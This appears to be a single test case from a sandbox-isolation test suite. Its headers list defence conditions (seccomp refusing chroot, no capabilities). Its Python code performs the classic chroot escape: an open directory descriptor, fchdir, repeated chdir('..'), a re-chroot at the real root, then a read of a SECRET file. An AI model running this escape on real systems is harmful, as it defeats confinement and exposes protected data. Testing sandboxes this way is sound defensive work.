# title: leaves a changed root directory by a descriptor kept open
# harm: learns
# B: seccomp refuses chroot; no capabilities
# C: seccomp refuses chroot; no capabilities; nothing is outside
os.mkdir('jail'); here = os.open('.', os.O_RDONLY)
os.chroot('jail'); os.fchdir(here)
for _ in range(64): os.chdir('..')
os.chroot('.'); print(open(SECRET).read())
